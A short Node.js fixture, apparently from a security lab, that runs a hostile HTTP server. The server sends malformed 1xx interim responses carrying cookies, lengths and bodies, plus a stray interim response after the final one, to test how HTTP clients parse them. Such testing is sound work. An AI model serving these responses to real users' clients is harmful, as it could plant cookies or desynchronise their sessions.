// exploit: gives interim answers lengths, bodies and cookies, and sends another interim answer after the final one
// kind: lab
// steps: visit / | visit / | GET /
// outcome: finished
// hides: early=1|"status":10
require('node:net').createServer((socket) => {
  socket.on('error', () => {}).once('data', () => {
    socket.end('HTTP/1.1 103 Early Hints\r\nSet-Cookie: early=1; Path=/\r\nContent-Length: 0\r\nLink: </x>; rel=preload\r\n\r\nHTTP/1.1 100 Continue\r\nTransfer-Encoding: chunked\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\nrealHTTP/1.1 102 Processing\r\nSet-Cookie: early=1\r\n\r\n')
  })
}).listen(process.env.PORT)
